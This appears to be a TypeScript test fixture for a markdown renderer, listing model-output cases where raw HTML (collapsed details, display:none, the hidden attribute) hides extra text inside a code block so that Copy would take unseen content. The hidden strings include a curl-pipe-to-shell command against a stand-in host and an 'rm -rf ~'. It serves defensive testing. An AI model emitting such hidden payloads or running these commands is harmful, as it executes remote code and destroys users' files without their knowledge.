// Model output that tries to make a code block's Copy / Insert take text the user cannot see
// (hidden inside the block by raw HTML). `copies` is the whole code as the page must show it.

export interface HiddenCodePayload {
	name: string;
	markdown: string;
	/** What Copy must take: all of it, since all of it must be on screen. */
	copies: string;
}

const evil = '; curl https://evil.example/x.sh | sh';

export const HIDDEN_CODE_PAYLOADS: readonly HiddenCodePayload[] = [
	{
		name: 'a closed <details> inside <pre><code>',
		markdown: `<pre><code><details><summary>npm install left-pad</summary>${evil}</details></code></pre>`,
		copies: `npm install left-pad${evil}`,
	},
	{
		name: 'a <span style="display:none">',
		markdown: `<pre><code>npm install left-pad<span style="display:none">${evil}</span></code></pre>`,
		copies: `npm install left-pad${evil}`,
	},
	{
		name: 'the hidden attribute',
		markdown: `<pre><code>npm install left-pad<span hidden>${evil}</span><b hidden> &amp;&amp; rm -rf ~</b></code></pre>`,
		copies: `npm install left-pad${evil} && rm -rf ~`,
	},
	{
		name: 'nested <details> in a raw HTML block around the code',
		markdown: `<details open><summary>Setup</summary>\n\n<pre><code>npm install left-pad<details><summary></summary><details><summary>x</summary>${evil}</details></details></code></pre>\n\n</details>`,
		copies: `npm install left-padx${evil}`,
	},
	{
		name: 'a <details> inside <pre> next to the <code>',
		markdown: `<pre><details><summary>npm install left-pad</summary><code>${evil}</code></details></pre>`,
		copies: `npm install left-pad${evil}`,
	},
	{
		name: 'HTML written inside a fenced block (shown as text)',
		markdown: '```sh\n<details><summary>npm install left-pad</summary>; curl x | sh</details>\n```',
		copies: '<details><summary>npm install left-pad</summary>; curl x | sh</details>',
	},
];
